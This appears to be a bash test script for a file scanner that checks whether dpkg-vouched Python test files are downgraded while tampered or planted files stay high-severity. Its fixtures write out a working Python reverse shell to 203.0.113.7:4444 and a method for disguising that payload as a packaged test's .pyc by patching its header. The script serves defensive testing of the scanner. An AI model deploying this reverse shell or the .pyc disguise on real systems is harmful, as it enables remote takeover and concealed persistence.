#!/usr/bin/env bash
# script.* findings on a packaged interpreter's own test suite are lowered
# to info only when the root's dpkg database vouches for the file (its
# md5sums lists the path with the md5 it has): CPython's
# test_subprocess.py-like code stays quiet; the same file with one byte
# changed, its .pyc compiled from that changed source, and a reverse shell
# planted beside it with no md5sums entry stay high (issue 14, scripts_owned.c).
set -u
fail=0
check() {
	if eval "$2"; then echo "ok - $1"; else echo "not ok - $1"; fail=1; fi
}
t=$(mktemp -d); trap 'rm -rf "$t"' EXIT

# "RULE SEVERITY" of each script finding on a file whose path ends in $2
sev() {
	python3 - "$1" "$2" <<'PY'
import json, sys
d = json.load(open(sys.argv[1]))
for f in d["findings"]:
    if f["rule"].startswith("script.") and f["location"].endswith(sys.argv[2]):
        print(f["rule"], f["severity"])
PY
}
verdict() { python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["verdict"])' "$1"; }

# A test in the style of CPython's: a server thread receives a command and
# runs it, against a fixed documentation address.
mk_tree() {
	local r=$1 d=$1/usr/lib/python3.11/test
	mkdir -p "$d" "$r/var/lib/dpkg/info"
	cat > "$d/test_remote.py" <<'PY'
import socket, subprocess, unittest
HOST = "192.0.2.10"

class RemoteTest(unittest.TestCase):
    def test_run_received(self):
        srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        srv.bind((HOST, 0))
        srv.listen(1)
        conn, _ = srv.accept()
        cmd = conn.recv(1024).decode()
        out = subprocess.check_output(cmd, shell=True)
        self.assertTrue(out)
PY
	(cd "$d" && python3 -m py_compile test_remote.py)
	(cd "$r" && md5sum usr/lib/python3.11/test/test_remote.py) \
		> "$r/var/lib/dpkg/info/libpython3.11-testsuite.md5sums"
}

mk_tree "$t/ok"
"$POSTERN" scan "$t/ok" --format json -o "$t/ok.json" >/dev/null
check "packaged test file: lowered to info" \
	'[ "$(sev "$t/ok.json" test/test_remote.py)" = "script.remote-command info" ]'
check "its .pyc, compiled from the vouched source: info" \
	'[ "$(sev "$t/ok.json" .pyc)" = "script.remote-command info" ]'
check "packaged test suite: not fail" '[ "$(verdict "$t/ok.json")" != fail ]'
check "the reason names the package" \
	'grep -q "libpython3.11-testsuite" "$t/ok.json"'

# one byte changed after the database was written: not the packaged file
mk_tree "$t/changed"
sed -i 's/1024/1025/' "$t/changed/usr/lib/python3.11/test/test_remote.py"
(cd "$t/changed/usr/lib/python3.11/test" && python3 -m py_compile test_remote.py)
"$POSTERN" scan "$t/changed" --format json -o "$t/changed.json" >/dev/null
check "changed byte: high" \
	'[ "$(sev "$t/changed.json" test/test_remote.py)" = "script.remote-command high" ]'
check "changed byte: its .pyc high too" \
	'[ "$(sev "$t/changed.json" .pyc)" = "script.remote-command high" ]'
check "changed byte: fail" '[ "$(verdict "$t/changed.json")" = fail ]'

# a reverse shell planted in the test directory, which dpkg does not own
mk_tree "$t/plant"
cat > "$t/plant/usr/lib/python3.11/test/test_zz_support.py" <<'PY'
import socket, subprocess
s = socket.socket()
s.connect(("203.0.113.7", 4444))
while True:
    cmd = s.recv(4096).decode()
    s.send(subprocess.check_output(cmd, shell=True))
PY
"$POSTERN" scan "$t/plant" --format json -o "$t/plant.json" >/dev/null
check "planted reverse shell under test/: high" \
	'[ "$(sev "$t/plant.json" test_zz_support.py)" = "script.remote-command high" ]'
check "planted reverse shell: fail" '[ "$(verdict "$t/plant.json")" = fail ]'
check "the packaged file beside it stays info" \
	'[ "$(sev "$t/plant.json" test/test_remote.py)" = "script.remote-command info" ]'

# a code object planted as the .pyc of an innocuous packaged test (its header
# made to name that source's size): says more than its source, stays high
mk_tree "$t/pyc"
d=$t/pyc/usr/lib/python3.11/test
printf 'import unittest\n\nclass T(unittest.TestCase):\n    def test_ok(self):\n        pass\n' \
	> "$d/test_plain.py"
(cd "$t/pyc" && md5sum usr/lib/python3.11/test/test_plain.py) \
	>> "$t/pyc/var/lib/dpkg/info/libpython3.11-testsuite.md5sums"
cp "$t/plant/usr/lib/python3.11/test/test_zz_support.py" "$t/evil.py"
python3 - "$t/evil.py" "$d/__pycache__/test_plain.cpython-311.pyc" "$d/test_plain.py" <<'PY'
import os, py_compile, struct, sys
py_compile.compile(sys.argv[1], cfile=sys.argv[2], doraise=True)
b = bytearray(open(sys.argv[2], "rb").read())
b[12:16] = struct.pack("<I", os.path.getsize(sys.argv[3]))
open(sys.argv[2], "wb").write(b)
PY
"$POSTERN" scan "$t/pyc" --format json -o "$t/pyc.json" >/dev/null
check "planted .pyc beside an innocuous packaged test: high" \
	'[ "$(sev "$t/pyc.json" test_plain.cpython-311.pyc)" = "script.remote-command high" ]'
check "planted .pyc: fail" '[ "$(verdict "$t/pyc.json")" = fail ]'

# the same vouched file outside a test directory: library code, not lowered
mk_tree "$t/lib"
mv "$t/lib/usr/lib/python3.11/test" "$t/lib/usr/lib/python3.11/remote"
sed -i 's|/test/|/remote/|' "$t/lib/var/lib/dpkg/info/libpython3.11-testsuite.md5sums"
"$POSTERN" scan "$t/lib" --format json -o "$t/lib.json" >/dev/null
check "vouched file outside test/: high" \
	'[ "$(sev "$t/lib.json" remote/test_remote.py)" = "script.remote-command high" ]'
exit $fail
